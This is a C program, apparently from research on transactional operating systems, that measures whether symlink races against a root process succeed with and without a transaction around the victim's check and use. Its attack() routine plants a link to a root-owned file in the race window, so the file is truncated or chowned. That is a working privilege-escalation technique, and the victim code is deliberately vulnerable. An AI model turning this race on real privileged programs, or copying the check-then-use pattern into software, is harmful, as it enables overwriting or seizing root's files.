/* Two attacks on names that a privileged program trusts, and what a transaction makes of them.
 *
 *     cc -o name-attack name-attack.c $(txos config --cflags --libs)
 *     ./name-attack temporary|socket plain|wrapped TRIES [MS]        (as root, in an empty directory)
 *
 * The victim is root and works in a directory of the user's. The attacker, who is that user, puts a link to root's
 * file in the place of a name, between two of the victim's steps.
 *
 * temporary: the victim looks that there is no such file, and then makes it. The attacker has root's file overwritten.
 * socket: the victim makes a socket, and then gives it to the user, as agents for keys did. The attacker is given root's file.
 *
 * "wrapped" has both steps in one transaction. Between them the victim waits for MS milliseconds (10); "plain" goes on as soon
 * as the attacker has had its turn. Says in how many tries the attacker has won, and how many the victim has made a second. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <txos.h>

enum { USER = 1000 };

static const char secret[] = "../secret", name[] = "name"; /* seen from the user's directory */
static volatile struct { int ready, between, planted; } *seen; /* by victim and attacker */
static int won, wrapped, wait_ms = 10;

static void pause_for(long us)
{
    struct timespec time = {0, us * 1000};
    nanosleep(&time, NULL);
}

/* As if something were computed. */
static void work(void)
{
    seen->between = seen->ready;
    for (int ms = 0; ms < wait_ms && (wrapped || seen->planted != seen->ready); ms++)
        pause_for(1000);
}

static void make_file(void)
{
    struct stat there;
    int fd;

    if (lstat(name, &there) == 0)
        return; /* somebody's */
    work(); /* on the content */
    fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd != -1 && write(fd, "a report\n", 9) == 9)
        close(fd);
}

static void make_socket(void)
{
    struct sockaddr_un at = {.sun_family = AF_UNIX, .sun_path = "name"};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);

    if (bind(fd, (struct sockaddr *)&at, sizeof at) == 0) {
        work(); /* on the keys */
        if (chown(name, USER, USER) == -1)
            perror("chown");
    }
    close(fd);
}

/* Plants the link when the victim is between its steps; of a transaction nothing is to be seen, so that is guessed. */
static void attack(int tries)
{
    if (setgid(USER) == -1 || setuid(USER) == -1)
        _exit(3);
    for (int i = 1; i <= tries; i++) {
        while (seen->ready != i)
            pause_for(10);
        if (wrapped)
            pause_for(rand() % 12000);
        while (!wrapped && seen->between != i)
            pause_for(10);
        unlink(name);
        if (symlink(secret, name) == -1)
            perror("symlink");
        seen->planted = i;
    }
    _exit(0);
}

static int is_ours(int socket)
{
    struct stat now;

    if (stat(secret, &now) == -1)
        exit(4);
    return socket ? now.st_uid == 0 : now.st_size == 0;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    int tries = argc == 4 || argc == 5 ? atoi(argv[3]) : 0;

    if (argc == 5)
        wait_ms = atoi(argv[4]);
    if (tries < 1 || wait_ms < 1)
        return 2;
    int socket = !strcmp(argv[1], "socket");
    wrapped = !strcmp(argv[2], "wrapped");
    int fd = open("secret", O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd == -1 || close(fd) == -1 || mkdir("theirs", 0755) == -1 || chown("theirs", USER, USER) == -1 ||
        chdir("theirs") == -1) {
        perror("an empty directory is needed, and root's rights");
        return 1;
    }
    seen = mmap(NULL, sizeof *seen, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t attacker = fork();
    if (attacker == 0)
        attack(tries);
    double began = now();
    for (int i = 1; i <= tries; i++) {
        seen->ready = i;
        if (wrapped && sys_xbegin(0) == -1)
            return fprintf(stderr, "%s\n", txos_strerror()), 1;
        socket ? make_socket() : make_file();
        if (wrapped && sys_xend() == -1 && errno != ECANCELED)
            return fprintf(stderr, "%s\n", txos_strerror()), 1;
        seen->between = i;
        while (seen->planted != i)
            pause_for(10);
        if (!is_ours(socket)) {
            won++;
            if (truncate(secret, 0) == -1 || chown(secret, 0, 0) == -1)
                return 1;
        }
        unlink(name);
    }
    printf("%s, %s: won %d of %d, %.0f tries/s\n", argv[1], argv[2], won, tries, tries / (now() - began));
    int status;
    return waitpid(attacker, &status, 0) == attacker && status == 0 ? 0 : 1;
}
